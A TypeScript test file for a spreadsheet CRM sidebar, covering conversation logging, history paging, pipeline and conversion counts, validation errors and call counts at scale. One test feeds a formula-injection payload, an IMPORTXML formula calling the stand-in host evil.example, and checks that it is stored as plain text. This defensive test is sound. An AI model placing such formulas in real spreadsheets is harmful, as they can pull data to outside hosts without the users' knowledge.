// Logging conversations, the pipeline numbers on a known workbook, and the service calls of the
// single-contact paths at 10 and at 1,000 contacts, on the built bundle.
import type { Runtime } from '../../../local/runtime/index';
import type { PipelineSummary } from '../../../src/domain/pipeline/pipeline';
import type { EarlierEntries, LogConversationResult, SidebarLoad } from '../../../src/sidebarApi';
import { idOf, prospek, sheetWith, snapshot } from '../../support/workbook';
import { call, callOk } from '../../support/sidebar';
import { activityRows, bigSheet, contact, conversation, selectRows } from './contactsHarness';

describe('logConversation', () => {
  it('appends the conversation and sets Last contacted and Next follow-up', () => {
    const rt = sheetWith([{ name: 'Budi Santoso', stage: 'Prospect' }]);
    const r = callOk<LogConversationResult>(
      rt,
      'logConversation',
      conversation(idOf(1), {
        type: 'meeting',
        summary: 'Showed the catalogue',
        questions: 'Delivery to Bogor?',
        concerns: 'Price of the large size',
        nextStep: 'Send a quote',
        followUpOn: '2026-12-05',
      }),
    );
    expect(r.contact).toMatchObject({ lastContacted: '2026-11-27', nextFollowUp: '2026-12-05' });
    expect(contact(rt, idOf(1))).toMatchObject({
      lastContacted: '2026-11-27',
      nextFollowUp: '2026-12-05',
    });
    expect(r.timeline).toEqual([
      {
        activityId: expect.stringMatching(/^A-[0-9A-Z]{8}$/),
        when: '2026-11-27T02:00:00.000Z',
        contactId: idOf(1),
        contactName: 'Budi Santoso',
        type: 'Meeting',
        summary: 'Showed the catalogue',
        questions: 'Delivery to Bogor?',
        concerns: 'Price of the large size',
        nextStep: 'Send a quote',
        followUpOn: '2026-12-05',
        fromStage: '',
        toStage: '',
        by: 'rep@example.com',
      },
    ]);
    const [row] = activityRows(rt);
    expect(row).toMatchObject({
      contactId: idOf(1),
      type: 'Meeting',
      questions: 'Delivery to Bogor?',
      by: 'rep@example.com',
    });
    // The version given back matches the row: a save right after is no conflict.
    const again = call(rt, 'saveContact', {
      contact: { id: idOf(1), name: 'Budi Santoso', company: 'Toko Budi' },
      loadedUpdated: r.contact.updated,
      loadedVersion: r.version,
    });
    expect(again.ok).toBe(true);
  });

  it('the sidebar gets the newest page of a long history, then the earlier ones page by page', () => {
    const rt = sheetWith([{ name: 'Budi' }, { name: 'Sari' }]);
    for (let i = 1; i <= 105; i++) {
      callOk(rt, 'logConversation', conversation(idOf(1), { summary: `call ${i}` }));
      if (i % 10 === 0) callOk(rt, 'logConversation', conversation(idOf(2), { summary: 'other' }));
      rt.advanceBy(60_000);
    }
    const load = callOk<SidebarLoad>(rt, 'loadSidebar', { contactId: idOf(1) });
    expect(load.timeline.map((a) => a.summary)).toEqual([
      'call 105',
      'call 104',
      'call 103',
      'call 102',
      'call 101',
    ]);
    expect(load.earlier).toBe(100);
    const shown = [...load.timeline];
    let earlier = load.earlier;
    while (earlier > 0) {
      const from = rt.calls.records.length;
      const page = callOk<EarlierEntries>(rt, 'loadEarlier', {
        contactId: idOf(1),
        shown: shown.length,
      });
      // Each page reads the log's header and its own rows: never the other contact's entries.
      const read = rt.calls.records
        .slice(from)
        .filter((c) => c.method === 'Range.getValues')
        .reduce((n, c) => n + c.cellsRead, 0);
      expect(read).toBeLessThanOrEqual(6 * 13);
      expect(page.entries).toHaveLength(5);
      expect(page.earlier).toBe(earlier - 5);
      shown.push(...page.entries);
      earlier = page.earlier;
    }
    expect(shown.map((a) => a.summary)).toEqual(
      Array.from({ length: 105 }, (_, i) => `call ${105 - i}`),
    );
    expect(shown.every((a) => a.contactId === idOf(1))).toBe(true);
    // Past the oldest: nothing more. Without a contact: the field is named.
    expect(callOk<EarlierEntries>(rt, 'loadEarlier', { contactId: idOf(1), shown: 105 })).toEqual({
      entries: [],
      earlier: 0,
    });
    expect(call(rt, 'loadEarlier', { shown: 5 })).toMatchObject({
      ok: false,
      issues: [{ field: 'contactId' }],
    });
  });

  it('without a follow-up date: a due follow-up is cleared, a later one kept', () => {
    const rt = sheetWith([
      { name: 'Due', nextFollowUp: '2026-11-20' },
      { name: 'Later', nextFollowUp: '2026-12-10' },
    ]);
    callOk(rt, 'logConversation', conversation(idOf(1), { summary: 'Called back' }));
    callOk(rt, 'logConversation', conversation(idOf(2), { summary: 'Quick hello' }));
    expect(contact(rt, idOf(1))).toMatchObject({ nextFollowUp: '', lastContacted: '2026-11-27' });
    expect(contact(rt, idOf(2))).toMatchObject({
      nextFollowUp: '2026-12-10',
      lastContacted: '2026-11-27',
    });
  });

  it('keeps text that looks like a formula as text', () => {
    const rt = sheetWith([{ name: 'Budi' }]);
    const r = callOk<LogConversationResult>(
      rt,
      'logConversation',
      conversation(idOf(1), { summary: '=IMPORTXML("http://evil.example","//a")', concerns: '+1' }),
    );
    expect(r.timeline[0]).toMatchObject({
      summary: '=IMPORTXML("http://evil.example","//a")',
      concerns: '+1',
    });
    expect(rt.workbook().sheet('Activities')!.formulas.size).toBe(0);
  });

  it.each([
    ['a system type', { type: 'Stage change', summary: 'x' }, 'type'],
    ['no type', { type: '', summary: 'x' }, 'type'],
    ['nothing said', { summary: '  ' }, 'summary'],
    ['a day that does not exist', { summary: 'x', followUpOn: '2026-02-29' }, 'followUpOn'],
    ['a summary longer than a cell', { summary: 'x'.repeat(50001) }, 'summary'],
    ['an unknown field', { summary: 'x', mood: 'happy' }, 'mood'],
    ['a contact no longer in the sheet', { contactId: 'C-GONE00', summary: 'x' }, 'contactId'],
  ])('refuses %s, naming the field, and writes nothing', (_what, fields, field) => {
    const rt = sheetWith([{ name: 'Budi' }]);
    const before = snapshot(rt);
    const r = call(rt, 'logConversation', conversation(idOf(1), fields as never));
    expect(r.ok).toBe(false);
    expect(!r.ok && r.issues.map((i) => i.field)).toEqual([field]);
    expect(snapshot(rt)).toEqual(before);
  });
});

describe('getPipeline', () => {
  it('counts stages, conversions, due and overdue follow-ups and birthdays of a known workbook', () => {
    const rt = sheetWith([
      { name: 'Lead A', stage: 'Lead', nextFollowUp: '2026-11-27' },
      { name: 'Lead B', stage: 'Lead', birthday: '1990-12-05' },
      { name: 'Prospect', stage: 'Prospect', nextFollowUp: '2026-11-20' },
      { name: 'Selling', stage: 'In sales', birthday: '--11-27' },
      { name: 'Customer', stage: 'Customer', purchases: 1, birthday: '--12-20' },
      { name: 'Repeat', stage: 'Repeat buyer', purchases: 3 },
      { name: 'Later', stage: 'Not ready', nextFollowUp: '2026-11-25' },
      { name: 'Nope', stage: 'Said no', keepInTouch: 'No', nextFollowUp: '2026-11-01' },
      { name: 'Unfit', stage: 'Not a fit', nextFollowUp: '2026-11-01' },
    ]);
    const p = callOk<PipelineSummary>(rt, 'getPipeline');
    expect(p.total).toBe(9);
    expect(Object.fromEntries(p.stages.map((s) => [s.stage, s.count]))).toEqual({
      Lead: 2,
      Prospect: 1,
      'In sales': 1,
      Customer: 1,
      'Repeat buyer': 1,
      'Not ready': 1,
      'Said no': 1,
      'Not a fit': 1,
    });
    expect(p.reached).toEqual({ lead: 9, prospect: 5, customer: 2, repeatBuyer: 1 });
    expect(p.conversion.leadToProspect).toEqual({ from: 9, to: 5, rate: 5 / 9 });
    expect(p.conversion.prospectToCustomer).toEqual({ from: 5, to: 2, rate: 0.4 });
    expect(p.conversion.customerToRepeatBuyer).toEqual({ from: 2, to: 1, rate: 0.5 });
    expect(p.followUpsDueToday.map((f) => f.name)).toEqual(['Lead A']);
    expect(p.overdueFollowUps.map((f) => [f.name, f.daysOverdue])).toEqual([
      ['Prospect', 7],
      ['Later', 2],
    ]);
    expect(p.birthdays.map((b) => [b.name, b.daysAway])).toEqual([
      ['Selling', 0],
      ['Lead B', 8],
    ]);
    expect(p.birthdays[1].age).toBe(36);
  });

  it('is an empty pipeline in a sheet never set up, and writes nothing', () => {
    const rt = prospek();
    const before = snapshot(rt);
    expect(callOk<PipelineSummary>(rt, 'getPipeline').total).toBe(0);
    expect(snapshot(rt)).toEqual(before);
  });
});

describe('service calls do not grow with the number of contacts', () => {
  type Calls = Record<string, number>;
  function measure(rt: Runtime, fn: string, args: unknown[]): Calls {
    const from = rt.calls.records.length;
    const r = rt.run<{ ok: boolean }>(fn, args, { kind: 'sidebar' });
    expect(r.ok).toBe(true);
    return rt.calls.summary(from).byMethod;
  }

  function ops(count: number) {
    const rt = bigSheet(count);
    // The contact in the middle has some history; everyone's log entries are mixed in.
    const target = idOf(Math.ceil(count / 2));
    callOk(rt, 'logConversation', conversation(target, { summary: 'first' }));
    callOk(rt, 'logConversation', conversation(idOf(1), { summary: 'someone else' }));
    callOk(rt, 'logConversation', conversation(target, { summary: 'second' }));
    selectRows(rt, [Math.ceil(count / 2) + 1, Math.ceil(count / 2) + 1]);
    const loadActive = measure(rt, 'loadSidebar', [{}]);
    const loadById = measure(rt, 'loadSidebar', [{ contactId: target }]);
    const loaded = callOk<SidebarLoad>(rt, 'loadSidebar', { contactId: target });
    const save = measure(rt, 'saveContact', [
      {
        contact: { id: target, name: 'Renamed', fitsMarket: 'Yes' },
        loadedUpdated: loaded.contact!.updated,
        loadedVersion: loaded.version,
      },
    ]);
    const create = measure(rt, 'saveContact', [{ contact: { name: 'New' }, loadedUpdated: '' }]);
    const log = measure(rt, 'logConversation', [conversation(target, { summary: 'third' })]);
    const saved = callOk<SidebarLoad>(rt, 'loadSidebar', { contactId: target });
    return { loadActive, loadById, save, create, log, saved: saved.contact!.name };
  }

  it('loadSidebar, saveContact and logConversation make the same calls at 10 and 1,000 contacts', () => {
    const small = ops(10);
    const large = ops(1000);
    expect(large).toEqual(small);
    expect(small.saved).toBe('Renamed');
    for (const calls of [small.loadActive, small.save, small.create, small.log]) {
      // Never a read of the whole tab.
      expect(calls['Sheet.getDataRange']).toBeUndefined();
    }
    // Header, the contact's row, the log's header and one exact run per group of adjacent
    // entries: 'first' and 'second', another contact's entry between them.
    expect(small.loadById['Range.getValues']).toBe(5);
    expect(small.loadById['TextFinder.findAll']).toBe(1);
  });
});
